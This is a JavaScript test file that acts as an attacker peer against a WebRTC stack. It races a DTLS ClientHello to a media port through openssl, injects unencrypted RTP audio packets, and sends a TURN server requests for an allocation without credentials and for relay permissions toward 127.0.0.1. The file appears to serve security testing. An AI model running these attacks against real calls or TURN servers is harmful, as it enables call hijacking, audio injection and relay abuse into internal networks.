// SPDX-License-Identifier: GPL-2.0-or-later
// An outsider who knows a media port, and sends to it from an address that no ICE check has validated: a DTLS
// ClientHello in a race with the real one, or RTP. Or one who tries what a TURN server lets strangers do.
'use strict';
const crypto = require('crypto');
const dgram = require('dgram');
const { spawn } = require('child_process');
const stun = require('./stun');
const { config, tell, serve } = require('../peers/line');

const socket = dgram.createSocket('udp4');
const log = [];
let sent = 0;

/** OpenSSL's client says its ClientHello again and again until somebody answers. */
function race(address, port) {
    const args = ['s_client', '-dtls1_2', '-use_srtp', 'SRTP_AES128_CM_SHA1_80', '-connect', `${address}:${port}`];
    const client = spawn('openssl', args, { stdio: ['pipe', 'ignore', 'ignore'] });
    sent++;
    setTimeout(() => client.kill(), 6000);
}

/** Opus in RTP that nobody encrypted for this call: 50 packets a second for three seconds. */
function inject(address, port) {
    const ssrc = crypto.randomBytes(4);
    let count = 0;
    const timer = setInterval(() => {
        if (++count > 150)
            return clearInterval(timer);
        const header = Buffer.alloc(12);
        header.writeUInt16BE(0x806f, 0);
        header.writeUInt16BE(count, 2);
        header.writeUInt32BE(count * 960, 4);
        ssrc.copy(header, 8);
        sent++;
        socket.send(Buffer.concat([header, crypto.randomBytes(60)]), port, address);
    }, 20);
}

/** An allocation without credentials, and permissions for addresses that only the server itself can reach. */
function probeTurn() {
    const steps = [
        stun.message(0x0003, [[0x0019, Buffer.from([17, 0, 0, 0])]]),
        stun.message(0x0008, [[0x0012, stun.xorAddress('127.0.0.1', 0)]]),
        stun.message(0x0016, [[0x0012, stun.xorAddress('127.0.0.1', 8000)], [0x0013, Buffer.from('probe')]]),
    ];
    socket.on('message', data => log.push(`answer 0x${data.readUInt16BE(0).toString(16)}`));
    steps.forEach((step, n) => setTimeout(() => { sent++; socket.send(step, 3478, config.turn); }, 300 * n));
}

require('readline').createInterface({ input: process.stdin }).on('line', line => {
    const [word, address, port] = line.split(' ');
    if (word === 'target' && !sent)
        ({ race, inject: (...to) => setTimeout(() => inject(...to), 2500) })[config.what](address, +port);
});
serve({ report: async () => ({ sent, log }), quit: () => socket.close(), target() {} });
if (config.what === 'turn')
    setTimeout(probeTurn, 1000);
tell('ready');
